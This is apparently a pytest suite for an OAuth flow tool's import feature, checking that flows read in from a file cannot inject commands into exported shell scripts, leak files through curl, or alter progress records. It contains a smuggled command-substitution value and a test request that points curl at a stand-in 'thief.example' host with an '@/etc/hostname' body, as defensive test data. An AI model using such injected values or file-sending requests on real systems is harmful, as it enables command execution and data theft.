"""A flow that was read in from a file is somebody's claim: it runs nothing at its reader's, and proves nothing."""

from __future__ import annotations

import copy
import json
import os
import shlex
import subprocess
from pathlib import Path
from typing import Any

import pytest

HTML = {"Accept": "text/html"}
EVIL = "X}$(touch evil)${Y"


def document_of(control: Any, app: dict[str, Any]) -> dict[str, Any]:
    """What a whole login of the app is as a file."""
    control.login(app)
    flow = control("GET", "/flows", app=app["appid"])[0]["id"]
    told: dict[str, Any] = json.loads(control.ask("GET", f"/flows/{flow}/export.json").text)
    return told


@pytest.mark.parametrize(
    ("field", "value"),
    [("kind", EVIL), ("kind", "path"), ("kind", ""), ("where", "request.<b>"), ("where", "x" * 100)],
)
def test_a_value_of_no_known_kind_or_place_is_refused(control: Any, field: str, value: str) -> None:
    """Scripts name their variables by it: what names a variable can be a command."""
    app = control.wechat()
    document = document_of(control, app)
    document["exchanges"][1]["values"][0][field] = value

    refused = control.refused("POST", "/flows", document, world=app["world"])

    assert refused["field"] == "exchanges[1].values"


def test_a_body_that_names_a_file_sends_no_file(control: Any, tmp_path: Path) -> None:
    """curl reads a file where some options' value begins with @; the address is the file's author's choice."""
    app = control.wechat()
    document = document_of(control, app)
    token = document["exchanges"][1]["request"]
    token |= {"method": "POST", "url": "http://thief.example/x", "body": "@/etc/hostname", "headers": []}

    flow = control("POST", "/flows", document, world=app["world"])["id"]

    script = control.ask("GET", f"/flows/{flow}/export.sh").text
    asked = arguments(script, tmp_path)[0]
    assert asked[asked.index("--data-raw") + 1] == "@/etc/hostname"
    assert not {"-d", "--data", "--data-binary", "--data-ascii"} & set(asked)
    assert (
        "--data-binary"
        not in control.client.get(
            f"/_mock/theatre/{flow}?msg=3&tab=code", headers=HTML, base_url="http://127.0.0.1:9000"
        ).text
    )


def test_curl_takes_brackets_in_a_path_for_what_they_are(control: Any, tmp_path: Path) -> None:
    app = control.wechat()
    document = document_of(control, app)
    document["exchanges"][1]["request"]["url"] = "http://127.0.0.1/a[1-3]/{b,c}"

    flow = control("POST", "/flows", document, world=app["world"])["id"]

    assert "-g" in arguments(control.ask("GET", f"/flows/{flow}/export.sh").text, tmp_path)[0]


def arguments(script: str, folder: Path) -> list[list[str]]:
    """What the script would call curl with."""
    (folder / "curl").write_text('#!/bin/sh\nprintf "%s\\n" "$(printf " %s" "$@")" >>"$SAID"\n')
    (folder / "curl").chmod(0o755)
    given = {"CODE": "c", "CLIENT_SECRET": "s", "ACCESS_TOKEN": "t", "SAID": str(folder / "said")}
    path = f"{folder}{os.pathsep}{os.environ['PATH']}"
    subprocess.run(["bash", "-c", script], env={**given, "PATH": path}, check=True, capture_output=True)
    return [shlex.split(line) for line in (folder / "said").read_text().splitlines()]


def test_what_was_read_in_ticks_nothing_off(control: Any) -> None:
    """Neither the worksheet's experiments, nor the checklist, nor how far a client has come."""
    other = control.wechat()
    document = document_of(control, other)
    app = control.wechat()
    for e in document["exchanges"]:
        e["app"] = app["appid"]
    denied = copy.deepcopy(document)
    denied["exchanges"] = denied["exchanges"][:1]
    denied["exchanges"][0] |= {
        "outcome": "refused",
        "error": "access_denied",
        "steps": {"request": 2, "response": 4},
    }
    before = [control("GET", f"/apps/{app['appid']}/{page}") for page in ("worksheet", "checklist")]

    for each in (document, denied):
        control("POST", "/flows", each, world=app["world"])

    assert [control("GET", f"/apps/{app['appid']}/{page}") for page in ("worksheet", "checklist")] == before
    page = control.client.get(
        f"/_mock/connect?app={app['appid']}", headers=HTML, base_url="http://127.0.0.1:9000"
    )
    assert 'data-reached="0"' in page.text


def test_a_withdrawal_is_told_in_the_login_that_happened(control: Any) -> None:
    """And not in a copy of it that was read in later."""
    app = control.wechat()
    document = document_of(control, app)
    copied = control("POST", "/flows", document, world=app["world"])["id"]
    lived = next(f["id"] for f in control("GET", "/flows", app=app["appid"]) if f["id"] != copied)
    client = control.client
    state = control("GET", "/storage-state", user="zhangsan", world=app["world"])
    cookie = state["cookies"][0]
    client.set_cookie(cookie["name"], cookie["value"], domain="127.0.0.1")
    page = client.get(
        f"/settings/authorizations?world={app['world']}", headers=HTML, base_url="http://127.0.0.1:9000"
    )
    assert page.status_code == 200
    token = page.text.partition('name="csrf_token" value="')[2].partition('"')[0]

    said = client.post(
        "/settings/authorizations/revoke",
        data={"csrf_token": token, "world": app["world"], "appid": app["appid"]},
        base_url="http://127.0.0.1:9000",
    )

    assert said.status_code == 303
    assert "grant.revoked" in [e["name"] for e in control("GET", f"/flows/{lived}/exchanges")]
    assert "grant.revoked" not in [e["name"] for e in control("GET", f"/flows/{copied}/exchanges")]


def test_the_picture_leaves_out_what_xml_forbids(control: Any) -> None:
    import xml.etree.ElementTree as ET

    app = control.wechat(name="a\ufffe\uffff\x1b中文🐼")
    control.login(app)
    flow = control("GET", "/flows", app=app["appid"])[0]["id"]

    svg = control.ask("GET", f"/flows/{flow}/export.svg").text

    assert "a中文🐼" in "".join(ET.fromstring(svg).itertext())


def test_a_flow_that_was_read_in_says_so_wherever_it_is_shown(control: Any) -> None:
    app = control.wechat()
    document = document_of(control, app)
    flow = control("POST", "/flows", document, world=app["world"])["id"]
    short = flow.removeprefix("imported-")[:6]

    def page(path: str, **query: str) -> str:
        answer = control.client.get(
            f"/_mock/theatre{path}",
            query_string={**query, "lang": "en"},
            headers=HTML,
            base_url="http://127.0.0.1:9000",
        )
        return str(answer.text)

    assert page("", world=app["world"]).count('data-testid="th-imported"') == 1
    for path, places in ((f"/{flow}", 1), (f"/{document['flow']['id']}", 0)):
        assert page(path).count('data-testid="th-imported"') == places
    assert f"from a file {short}</option>" in page("/compare", left=flow)


def test_nothing_but_brackets_in_an_answer_says_nothing(control: Any) -> None:
    app = control.wechat()
    document = document_of(control, app)
    document["exchanges"][1]["response"]["body"] = '{"a":' + "[" * 5000
    flow = control("POST", "/flows", document, world=app["world"])["id"]

    for path in (f"/learn/with-oauth/{flow}", f"/theatre/{flow}?msg=4&tab=fields"):
        answer = control.client.get(f"/_mock{path}", headers=HTML, base_url="http://127.0.0.1:9000")
        assert answer.status_code == 200, path


def test_a_small_file_makes_no_endless_ledger(control: Any) -> None:
    app = control.wechat()
    document = document_of(control, app)
    token = document["exchanges"][1]
    values = [
        {"kind": "code", "hash": f"{n:016x}", "masked": "••••", "where": "request.query"} for n in range(150)
    ]
    document["exchanges"] = [{**token, "exchange": f"exchange{n}", "values": values} for n in range(14)]

    refused = control.refused("POST", "/flows", document, world=app["world"])

    assert refused["field"] == "exchanges"
